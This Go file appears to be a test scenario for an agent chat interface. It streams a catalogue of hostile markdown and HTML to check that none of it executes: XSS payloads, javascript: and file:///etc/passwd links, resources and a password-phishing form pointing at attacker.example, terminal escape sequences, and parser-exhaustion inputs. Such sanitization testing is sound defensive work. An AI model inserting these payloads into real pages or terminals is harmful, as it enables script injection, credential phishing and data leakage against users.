package demo

import (
	"slices"
	"strings"
	"time"
)

// playHostileMarkdown answers with every attack there is, each as a paragraph.
// Nothing of it may run, load or leave the transcript.
func playHostileMarkdown(t *turn) error {
	for _, a := range Attacks() {
		if err := t.chunk("agent_message_chunk", a+"\n\n"); err != nil {
			return err
		}
		if err := t.wait(60 * time.Millisecond); err != nil {
			return err
		}
	}
	title := "<img src=x onerror=alert(1)>\x1b]0;owned\a"
	id, err := t.start(toolFields{Title: title, Kind: "execute", RawInput: map[string]any{"command": "echo '<script>alert(1)</script>'"}})
	if err != nil {
		return err
	}
	return t.change(id, toolFields{Status: "completed", Tool: shown("<script>alert('tool output')</script>\x1b[2J")})
}

// Attacks lists the texts of the hostile-markdown scenario. Where one of them
// takes effect, it sets window.pwned, or asks for something of attacker.example.
func Attacks() []string {
	return slices.Concat(hostileTags(), hostileElements(), hostileLinks(), hostileText())
}

// hostileTags try to bring in scripts, styles and other pages.
func hostileTags() []string {
	return []string{
		`<script>window.pwned=1</script>`,
		`<SCRIPT SRC="https://attacker.example/x.js"></SCRIPT>`,
		`<scr<script>ipt>window.pwned=1</scr</script>ipt>`,
		`<script type="module">import("https://attacker.example/x.js")</script>`,
		`<img src=x onerror="window.pwned=1">`,
		`<img src="https://attacker.example/pixel.gif?who=me">`,
		`<svg onload=window.pwned=1>`,
		`<svg><script>window.pwned=1</script></svg>`,
		`<svg><a xlink:href="javascript:window.pwned=1"><text>press</text></a></svg>`,
		`<svg><animate onbegin=window.pwned=1 attributeName=x dur=1s>`,
		`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.pwned=1&gt;">`,
		`<iframe src="javascript:window.pwned=1"></iframe>`,
		`<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>`,
		`<object data="https://attacker.example/x.swf"></object>`,
		`<embed src="https://attacker.example/x.swf">`,
		`<link rel="stylesheet" href="https://attacker.example/x.css">`,
		`<style>@import "https://attacker.example/x.css"; * { display: none }</style>`,
		`<p style="background:url(https://attacker.example/bg.png);position:fixed;inset:0">cover</p>`,
		`<base href="https://attacker.example/">`,
		`<meta http-equiv="refresh" content="0;url=https://attacker.example/">`,
		`<form action="https://attacker.example/" method="post"><input name="password"><button>Log in again</button></form>`,
		`<input autofocus onfocus="window.pwned=1">`,
	}
}

// hostileElements run something by themselves, or when they are touched.
func hostileElements() []string {
	return []string{
		`<details open ontoggle="window.pwned=1"><summary>more</summary></details>`,
		`<video><source onerror="window.pwned=1"></video>`,
		`<audio src=x onerror=window.pwned=1>`,
		`<body onload=window.pwned=1>`,
		`<marquee onstart=window.pwned=1>news</marquee>`,
		`<a href="https://attacker.example/" onclick="window.pwned=1">press</a>`,
		`<a href="https://attacker.example/" target="_top">press</a>`,
		`<template><script>window.pwned=1</script></template>`,
		`<noscript><p title="</noscript><img src=x onerror=window.pwned=1>"></noscript>`,
		`<xss id=x tabindex=1 onfocus=window.pwned=1></xss>`,
	}
}

// hostileLinks lead elsewhere than they say, or run something.
func hostileLinks() []string {
	return []string{
		`[press](javascript:window.pwned=1)`,
		`[press](JaVaScRiPt:window.pwned=1)`,
		"[press](java\tscript:window.pwned=1)",
		`[press](&#106;avascript:window.pwned=1)`,
		`[press](vbscript:msgbox(1))`,
		`[press](data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==)`,
		`[press](file:///etc/passwd)`,
		`[press](wails://wails/)`,
		`[https://opencode.ai/workspace/wrk_1/go](https://attacker.example/)`,
		`[press](https://opencode.ai@attacker.example/workspace/wrk_1/go)`,
		`[press](https://xn--pencode-wqf.ai/workspace/wrk_1/go)`,
		`<javascript:window.pwned=1>`,
		`<https://attacker.example/"onmouseover="window.pwned=1>`,
		`![pixel](https://attacker.example/pixel.gif)`,
		`![x](x"onerror="window.pwned=1)`,
		`![x](data:image/svg+xml,<svg onload=window.pwned=1>)`,
		"[ref]\n\n[ref]: javascript:window.pwned=1",
	}
}

// hostileText breaks out of code, of comments, of the terminal and of every bound.
func hostileText() []string {
	return []string{
		"```html\"><script>window.pwned=1</script>\n</code></pre><script>window.pwned=1</script>\n```",
		"`</code><script>window.pwned=1</script>`",
		"| a |\n|---|\n| <img src=x onerror=window.pwned=1> |",
		"<!-- <script>window.pwned=1</script>",
		"<![CDATA[<script>window.pwned=1</script>]]>",
		"&lt;script&gt;window.pwned=1&lt;/script&gt;",
		"{{constructor.constructor('window.pwned=1')()}}",
		"${window.pwned=1}",
		"\u202etxt.exe\u202c is safe to open",
		"A\u200bB\u2066C\u2069D\ufeff",
		"\x1b]8;;https://attacker.example/\x07press\x1b]8;;\x07 \x1b[31mred\x1b[0m \x1b]52;c;cHduZWQ=\x07",
		"\x00\x01\x08\x0b\x7f\u0085",
		strings.Repeat("> ", 200) + "deep",
		strings.Repeat("- ", 200) + "deep",
		strings.Repeat("[", 2000) + strings.Repeat("](x)", 2000),
		strings.Repeat("*a_ ", 3000),
		"# " + strings.Repeat("long ", 4000),
		strings.Repeat("Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324", 100),
	}
}
